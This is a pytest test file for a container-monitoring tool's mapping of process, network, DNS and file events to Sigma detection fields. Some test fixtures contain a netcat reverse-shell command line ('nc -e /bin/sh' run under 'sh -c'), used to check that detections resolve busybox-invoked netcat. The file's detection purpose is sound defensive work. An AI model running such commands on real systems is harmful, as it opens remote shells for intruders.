"""The Sigma field mapping (rules/fields.py, docs/sigma-fields.md)."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from coi_watch.events import Ancestor, DnsQuery, FileAccess, NetConnect, ProcExec, ProcFork
from coi_watch.rules import fields as fields_mod
from coi_watch.rules.fields import (
    EventView,
    UnsupportedLogsourceError,
    field_value,
    fields_for_kind,
    kinds_for_logsource,
    logsource_spec,
    resolve_image,
)

DOC = Path(__file__).resolve().parents[2] / "docs" / "sigma-fields.md"


def proc(*argv: str, exe: str = "/usr/bin/x", uid: int = 1_000_000,
         ancestry: tuple[Ancestor, ...] = ()) -> ProcExec:
    return ProcExec(ts_ns=1, wall_ns=1, container="box", pid=7, ppid=3, uid=uid, exe=exe,
                    argv=argv, cwd="/w", comm=(argv[0] if argv else "")[:15],
                    ancestry=ancestry)


@pytest.mark.parametrize(("exe", "argv0", "argv1", "image"), [
    ("/usr/bin/curl", "curl", "", "/usr/bin/curl"),
    ("/usr/bin/python3.11", "/usr/bin/python3", "", "/usr/bin/python3.11"),
    ("/bin/busybox", "nc", "-e", "/bin/nc"),
    ("/bin/busybox", "/usr/bin/nc", "-e", "/usr/bin/nc"),
    ("/bin/busybox", "busybox", "nc", "/bin/nc"),
    ("/bin/busybox", "/bin/busybox", "wget", "/bin/wget"),
    ("/bin/busybox", "busybox", "", "/bin/busybox"),
    ("/usr/bin/coreutils", "cat", "", "/bin/cat"),
    ("/tmp/x (deleted)", "x", "", "/tmp/x"),
    ("", "/tmp/x", "", "/tmp/x"),
    ("", "x", "", "/bin/x"),  # exe lost: a bare name was found through PATH
    ("", "./x", "", None),  # a relative path: no idea where it is
    ("", "", "", None),
])
def test_image_resolution(exe: str, argv0: str, argv1: str, image: str | None) -> None:
    assert resolve_image(exe, argv0, argv1) == image


def test_process_creation_fields() -> None:
    parent = Ancestor(pid=3, comm="sh", exe="/bin/busybox", cmdline="sh -c nc -e /bin/sh h 1")
    ev = proc("nc", "-e", "/bin/sh", exe="/bin/busybox", ancestry=(parent,))
    assert field_value(ev, "Image") == "/bin/nc"
    assert field_value(ev, "CommandLine") == "nc -e /bin/sh"
    assert field_value(ev, "ParentImage") == "/bin/sh"
    assert field_value(ev, "ParentCommandLine") == "sh -c nc -e /bin/sh h 1"
    assert field_value(ev, "User") == "root"
    assert field_value(ev, "Uid") == 0
    assert field_value(ev, "CurrentDirectory") == "/w"
    assert (field_value(ev, "ProcessId"), field_value(ev, "ParentProcessId")) == (7, 3)
    assert field_value(ev, "Exe") == "/bin/busybox"
    assert field_value(ev, "Container") == "box"
    assert field_value(ev, "a1") == "-e"
    assert field_value(ev, "a9") is None
    assert field_value(ev, "Hashes") is None


@pytest.mark.parametrize(("uid", "user"), [
    (1_000_000, "root"), (1_001_000, "1000"), (0, "root"), (33, "33"), (-1, None)])
def test_user_is_container_relative(uid: int, user: str | None) -> None:
    assert field_value(proc("x", uid=uid), "User") == user


def test_network_and_dns_fields() -> None:
    c = NetConnect(ts_ns=1, wall_ns=1, container="c", family=6, proto="tcp", src="fd00::2",
                   sport=5000, dst="2001:db8::1", dport=443)
    assert [field_value(c, f) for f in ("DestinationIp", "DestinationPort", "SourceIp",
                                        "SourcePort", "Protocol", "DestinationIsIpv6",
                                        "Initiated")] == [
        "2001:db8::1", 443, "fd00::2", 5000, "tcp", "true", "true"]
    d = DnsQuery(ts_ns=1, wall_ns=1, container="c", family=4, proto="udp", src="10.0.0.2",
                 dst="10.0.0.1", qname="x.example", qtype=16)
    assert field_value(d, "query") == field_value(d, "DestinationHostname") == "x.example"
    assert field_value(d, "record_type") == "TXT"
    assert field_value(DnsQuery(ts_ns=1, wall_ns=1, container="c", family=4, proto="udp",
                                src="a", dst="b", qname="q", qtype=4242), "record_type") == (
        "TYPE4242")


def test_file_fields() -> None:
    f = FileAccess(ts_ns=1, wall_ns=1, container="c", pid=9, op="close_write", path="/etc/x",
                   comm="vi")
    assert (field_value(f, "TargetFilename"), field_value(f, "Operation")) == (
        "/etc/x", "close_write")
    gone = FileAccess(ts_ns=1, wall_ns=1, container="c", pid=9, op="open")
    assert field_value(gone, "TargetFilename") is None


def test_kinds_for_logsource() -> None:
    assert kinds_for_logsource("process_creation", "linux", None) == {"proc.exec"}
    assert kinds_for_logsource("network_connection", "linux", None) == {"net.connect",
                                                                        "net.dns"}
    assert kinds_for_logsource("dns", None, None) == {"net.dns"}
    assert kinds_for_logsource("file_event", "linux", None) == {"file.access"}
    assert kinds_for_logsource(None, "linux", "auditd") == {"proc.exec"}
    for unsupported in ((None, "linux", "syslog"), (None, "linux", "sshd"),
                        ("process_creation", "windows", None), (None, "linux", None),
                        ("file_delete", "linux", None), ("registry_set", None, None)):
        assert kinds_for_logsource(*unsupported) == frozenset()
        with pytest.raises(UnsupportedLogsourceError) as exc:
            logsource_spec(*unsupported)
        assert exc.value.code == "E004"


def test_file_event_counts_only_close_write() -> None:
    (exp,) = logsource_spec("file_event", "linux", None).exposures
    assert exp.ops == {"close_write"}
    (every,) = logsource_spec("file_access", "linux", None).exposures
    assert every.ops is None


def test_fields_for_kind() -> None:
    assert {"Image", "CommandLine", "User", "Container"} <= fields_for_kind("proc.exec")
    assert "DestinationPort" in fields_for_kind("net.connect")
    assert fields_for_kind("proc.fork") == {"Container"}
    assert fields_for_kind("nonsense") == frozenset()
    assert field_value(ProcFork(ts_ns=1, wall_ns=1, container="c", pid=1, ppid=0),
                       "Image") is None


def test_view_computes_each_field_once(monkeypatch: pytest.MonkeyPatch) -> None:
    calls = []
    real = fields_mod.resolve_image

    def counting(*args: str) -> str | None:
        calls.append(args)
        return real(*args)

    monkeypatch.setattr(fields_mod, "resolve_image", counting)
    view = EventView(proc("nc", exe="/bin/busybox"))
    assert view.raw("Image") == view.text("Image") == view.lower("Image") == "/bin/nc"
    view.lower("Image")
    assert len(calls) == 1
    assert view.text("ProcessId") == "7"


def _documented(text: str) -> set[str]:
    return set(re.findall(r"``?([A-Za-z_][A-Za-z0-9_]*)``?", text))


def test_every_field_is_documented_in_both_places() -> None:
    names = {n for kind in ("proc.exec", "net.connect", "net.dns", "file.access")
             for n in fields_for_kind(kind)} - {"type", "argc"}
    doc = _documented(DOC.read_text())
    module = _documented(fields_mod.__doc__ or "")
    assert names - doc == set()
    assert names - module == set()
